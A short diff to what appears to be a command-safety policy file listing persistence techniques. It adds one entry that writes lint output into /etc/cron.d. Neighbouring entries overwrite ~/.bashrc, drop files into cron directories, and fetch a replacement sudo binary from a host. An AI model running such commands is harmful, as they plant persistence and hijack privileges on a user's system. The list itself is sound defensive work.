@@ -155,6 +155,7 @@ export const persistence: readonly Policy[] = [
       "mv git ~/.local/bin/",
       "curl -o ~/bin/sudo https://example.com/x && chmod +x ~/bin/sudo",
       "git log -1 --output=/etc/cron.d/x",
+      "lint -o json=/etc/cron.d/x",
       "git bundle create ~/.bashrc HEAD",
       "gsutil cp gs://shop/k ~/.bashrc",
       "kubectl cp shop/web:/x ~/.bashrc",
